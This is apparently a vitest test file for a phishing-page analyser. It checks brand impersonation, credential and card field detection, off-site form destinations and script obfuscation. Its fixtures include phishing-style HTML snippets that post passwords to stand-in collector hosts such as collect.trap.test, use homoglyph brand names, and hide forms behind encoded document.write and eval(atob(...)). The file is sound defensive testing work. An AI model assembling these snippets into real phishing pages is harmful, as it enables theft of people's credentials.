import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { readPage } from '../../../src/lookup/page/read-page.ts';

const fixture = (name: string) => readFileSync(new URL(`./pages/${name}.html`, import.meta.url), 'utf8');
const foreign = 'https://greenpaint.test/x/index.php';
const pageOf = (html: string, url = foreign) => readPage(html, url).page;
const traits = (html: string, url = foreign) =>
  pageOf(html, url).imitates.map(
    ({ brand, isProduct, because }) =>
      `${brand}${isProduct ? ' (product)' : ''}: ${because.map(({ trait }) => trait).join(', ')}`,
  );
const asks = (html: string) => pageOf(html).asks.map(({ asksFor }) => asksFor);
const login = (inner = '') =>
  `<form action="/in"><input name="user"><input type="password" name="pass">${inner}</form>`;

describe('whose login it looks like', () => {
  test.each([
    ['active-mail', 'active-mail (product): title, text'],
    ['roundcube', 'roundcube (product): title, form'],
    ['owa', 'owa (product): form'],
    ['card', 'smbc-card: title, copyright, assets, text'],
    ['parcel', 'yamato: title, copyright'],
  ])('%s', (name, expected) => {
    expect(traits(fixture(name))).toEqual([expected]);
  });

  test.each([
    [
      'Active! mail by its paths',
      '<form action="/am_bin/amlogin"><input name="p" type="password"></form>',
      'active-mail (product): form',
    ],
    [
      'Active! mail by its fields',
      '<form><input name="am_authid"><input name="am_authpasswd" type="password"></form>',
      'active-mail (product): form',
    ],
    ['two names of one house', `<title>Microsoft OneDrive</title>${login()}`, 'microsoft: title'],
    ['a shared document', `<title>Microsoft Excel</title>${login()}`, 'microsoft: title'],
    [
      'Zimbra by its form',
      '<form name="zLoginForm"><input type="hidden" name="loginOp"><input name="username"><input name="password" type="password"></form>',
      'zimbra (product): form',
    ],
    [
      'Horde',
      '<form><input name="horde_user"><input type="password" name="horde_pass"></form>',
      'horde (product): form',
    ],
    [
      'cPanel',
      '<title>cPanel Login</title><form id="login_form"><input name="user"><input type="password" name="pass"></form>',
      'cpanel (product): title, form',
    ],
    [
      'AD FS',
      '<title>Sign In</title><form><input id="userNameInput" name="UserName"><input id="passwordInput" type="password" name="Password"><input type="hidden" name="AuthMethod"></form><p>© 2016 Microsoft</p>',
      'microsoft (product): form, copyright',
    ],
    [
      'Microsoft, which asks for the address first',
      '<title>Sign in to your Microsoft account</title><form><input type="email" name="loginfmt"></form>',
      'microsoft: title, form',
    ],
    [
      'a brand by a base at its host',
      `<base href="https://www.amazon.co.jp/ap/"><title>Amazonサインイン</title>${login()}`,
      'amazon: title, assets',
    ],
    ['a brand by its copyright', `${login()}<p>© 1996-2026, Amazon.com, Inc.</p>`, 'amazon: copyright'],
    ['a brand spelled with other letters', `<title>Αmаzоn ログイン</title>${login()}`, 'amazon: title'],
    [
      'a brand whose host it resembles',
      `${login()}<p>Please confirm your PayPal balance.</p>`,
      'paypal: host, text',
      'https://paypa1.test/',
    ],
  ])('%s', (_, html, expected, url = foreign) => {
    expect(traits(html, url)).toEqual([expected]);
  });
});

describe('what looks alike and is left alone', () => {
  test.each([
    ['the genuine login at the genuine host', fixture('card'), 'https://www.smbc-card.com/mem/index.jsp'],
    ['the same at another host of the house', fixture('card'), 'https://www.smbc.co.jp/'],
    ['a shop that takes accounts and cards of many', fixture('shop-sign-in'), 'https://tea.example/login'],
    [
      'Microsoft at its own',
      '<title>Sign in to your Microsoft account</title><form><input type="email" name="loginfmt"></form>',
      'https://login.microsoftonline.com/',
    ],
    [
      'a brand under a suffix that the directory lacks',
      `<title>Amazon サインイン</title>${login()}`,
      'https://www.amazon.se/ap/signin',
    ],
    [
      'a blog about a brand with a newsletter',
      '<title>Amazon | Tech Blog</title><form><input type="email" name="email"></form>',
      foreign,
    ],
    ['a title that only speaks of a brand', `<title>Amazonギフト券の買い方 - お得ブログ</title>${login()}`, foreign],
    [
      'an article with a login in its corner',
      `<title>Amazon</title>${login()}<p>${'word '.repeat(2_000)}</p>`,
      foreign,
    ],
    [
      'a page that asks for nothing',
      '<title>Amazon</title><p>Amazon</p><img src="https://www.amazon.co.jp/a.png">',
      foreign,
    ],
    [
      'fonts, captchas and films from Google',
      `<title>Login</title><link rel="stylesheet" href="https://fonts.googleapis.com/css"><img src="https://i.ytimg.com/x.jpg"><img src="https://i.ytimg.com/y.jpg">${login()}<p>Google</p>`,
      foreign,
    ],
    [
      'one card sign from its owner',
      `<title>Pay</title><img src="https://www.jcb.co.jp/a.png" alt="JCB"><form><input autocomplete="cc-number"></form>`,
      foreign,
    ],
  ])('%s', (_, html, url) => {
    expect(traits(html, url)).toEqual([]);
  });
});

describe('what it asks for', () => {
  test.each([
    ['<input type=password>', 'password'],
    ['<input name=passwd>', 'password'],
    ['<input name=x placeholder="パスワードを入力">', 'password'],
    ['<label>暗証番号<input type=tel></label>', 'password'],
    ['<label for=a>カード番号</label><p><input id=a>', 'card'],
    ['<input name=cardNumber>', 'card'],
    ['<input autocomplete="billing cc-csc">', 'card'],
    ['<input type=password name=cvv>', 'card'],
    ['<input autocomplete=one-time-code>', 'one-time-code'],
    ['<input aria-label="認証コード">', 'one-time-code'],
    ['<input name=otp type=number>', 'one-time-code'],
    ['<textarea name="recovery_phrase"></textarea>', 'wallet'],
    ['<input name=mynumber placeholder="マイナンバー(12桁)">', 'identity'],
    ['<input type=date name=birthday>', 'identity'],
    ['<input type=email name=m>', 'account'],
    ['<input name=userId>', 'account'],
    ['<template shadowrootmode=open><input type=password></template>', 'password'],
    ['<iframe srcdoc="<input type=password>"></iframe>', 'password'],
    ['<iframe src="data:text/html;base64,PGlucHV0IHR5cGU9cGFzc3dvcmQ+"></iframe>', 'password'],
    ['<script>document.write(unescape("%3Cinput%20type%3Dpassword%3E"))</script>', 'password'],
    ["<script>document.write(atob('PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+'))</script>", 'password'],
  ])('%s', (html, expected) => {
    expect(asks(html)).toEqual([expected]);
  });

  test.each([
    ['a search', '<form role=search><input type=search name=q></form>'],
    ['a name and a message', '<input name=name><textarea name=message></textarea>'],
    ['hidden fields and buttons', '<input type=hidden name=password><input type=submit name=login><button name=login>'],
    ['a template that is no shadow tree', '<template><input type=password></template>'],
    ['a comment', '<!-- <input type=password> -->'],
  ])('nothing: %s', (_, html) => {
    expect(asks(html)).toEqual([]);
  });

  test('each with its tag', () => {
    expect(pageOf('<p>x<INPUT  type="password" Name=p>').asks).toEqual([
      { asksFor: 'password', shows: '<INPUT  type="password" Name=p>' },
    ]);
  });
});

describe('where it sends that', () => {
  const posts = (html: string) =>
    pageOf(html).postsTo.map(({ url, scheme, isElsewhere }) =>
      [scheme, url, isElsewhere ? 'elsewhere' : 'here'].join(' '),
    );
  const password = '<input type=password>';

  test.each([
    ['without action: to itself', `<form>${password}</form>`, ['https https://greenpaint.test/x/index.php here']],
    [
      'to a host of the same organization',
      `<form action="//www.greenpaint.test/a?b#c">${password}</form>`,
      ['https https://www.greenpaint.test/a here'],
    ],
    [
      'to another',
      `<form action="http://collect.trap.test/a.php">${password}</form>`,
      ['http http://collect.trap.test/a.php elsewhere'],
    ],
    [
      'by the button',
      `<form>${password}<button formaction="https://collect.trap.test/"></form>`,
      ['https https://greenpaint.test/x/index.php here', 'https https://collect.trap.test/ elsewhere'],
    ],
    ['by mail', `<form action="mailto:a@trap.test">${password}</form>`, ['mailto mailto:a@trap.test elsewhere']],
    [
      'by a script',
      `<script>$.ajax({ url: 'https://api.trap.test/bot/send', type: 'POST' })</script>${password}`,
      ['javascript https://api.trap.test/bot/send elsewhere'],
    ],
    [
      'against a base',
      `<base href="https://collect.trap.test/"><form action="a">${password}</form>`,
      ['https https://collect.trap.test/a elsewhere'],
    ],
    ['nothing that anybody is asked for', '<form action="https://lists.trap.test/"><input name=q></form>', []],
  ])('%s', (_, html, expected) => {
    expect(posts(html)).toEqual(expected);
  });
});

describe('what hides its doing', () => {
  test.each([
    [
      'a packed script',
      `<script>eval(function(p,a,c,k,e,d){${'x'.repeat(2_000)}}('',1,1))</script>`,
      ['packed-script'],
    ],
    ['code decoded before it is run', "<script>eval(atob('YWxlcnQ='))</script>", ['packed-script']],
    [
      'a document written by a script',
      '<script>document.write(unescape("%3Cform%3E%3Cinput%20type%3Dpassword%3E"))</script>',
      ['written-by-script'],
    ],
    [
      'a document written by a long script',
      `<script>var a="${'q'.repeat(1_000)}";document["write"](f(a))</script>`,
      ['written-by-script'],
    ],
    ['a form that leads into data:', '<form action="data:text/html,x"></form>', ['data-form']],
    ['letters with invisible ones between them', '<p>A\u200bm\u200ba\u200bz\u200bo\u200bn</p>', []],
    ['many of those', `<p>${'p\u200ba\u200by '.repeat(10)}</p>`, ['invisible-letters']],
    [
      'an advertisement in a frame, and one that a script writes',
      `<p>News</p><iframe srcdoc="<p>Buy</p>"></iframe><script>document.write(unescape("%3Cdiv%3EBuy%20now%3C/div%3E"))</script>`,
      [],
    ],
    [
      'a long script on a page that shows something itself',
      `<p>${'Words to be read. '.repeat(20)}</p><script>var a="${'q'.repeat(1_000)}";document.write(a)</script>`,
      [],
    ],
    ['an ordinary script', '<script>document.write(new Date().getFullYear())</script>', []],
  ])('%s', (_, html, expected) => {
    expect(pageOf(html).disguises.map(({ kind }) => kind)).toEqual(expected);
  });

  test('a form beside fields of the same names as a product’s is no product', () => {
    const html =
      '<form><input name=username><input type=password name=password><input type=hidden name=authMethod></form>';
    expect(traits(html)).toEqual([]);
  });

  test('where scripts and late refreshes would lead, once each', () => {
    const html =
      '<meta http-equiv=refresh content="900;/out"><script>if (a == b) location.href = "/next"; window.location.replace(\'https://trap.test/\');location="/next"</script>';
    expect(pageOf(html).scriptTargets).toEqual([
      'https://greenpaint.test/out',
      'https://greenpaint.test/next',
      'https://trap.test/',
    ]);
  });

  test('frames of other hosts', () => {
    expect(pageOf('<iframe src="https://trap.test/a"></iframe><iframe src="about:blank"></iframe>').frames).toEqual([
      'trap.test',
    ]);
  });
});

describe('pages that show nothing', () => {
  const needs = (html: string) => readPage(html, foreign).needsScripts;

  test.each([
    ['an empty page with a script', '<div id=root></div><script src=/app.js></script>', true],
    [
      'one that asks to turn scripts on',
      '<body><noscript>You need to enable JavaScript to run this app, please do so now.</noscript><div id=root></div><script src=a></script>',
      true,
    ],
    ['one with text', `<p>${'Words to be read. '.repeat(5)}</p><script src=a></script>`, false],
    ['one with a form', '<input type=password><script src=a></script>', false],
    ['one without scripts', '<p>Gone</p>', false],
  ])('%s', (_, html, expected) => {
    expect(needs(html)).toBe(expected);
  });

  test.each([
    ['a challenge', '<title>Just a moment...</title><script src="/cdn-cgi/challenge-platform/x"></script>', true],
    ['a captcha and nothing else', '<div class="g-recaptcha"></div>', true],
    ['a captcha below a text', `<p>${'Words to be read. '.repeat(50)}</p><div class="g-recaptcha"></div>`, false],
  ])('%s', (_, html, expected) => {
    expect(readPage(html, foreign).isWall).toBe(expected);
  });
});

test('title, icon and text', () => {
  expect(pageOf('<title> A\n B </title><link rel="shortcut icon" href="i.ico"><p>One</p><p>two</p>')).toMatchObject({
    title: 'A B',
    icon: 'https://greenpaint.test/x/i.ico',
    text: 'One two',
    cut: null,
  });
});
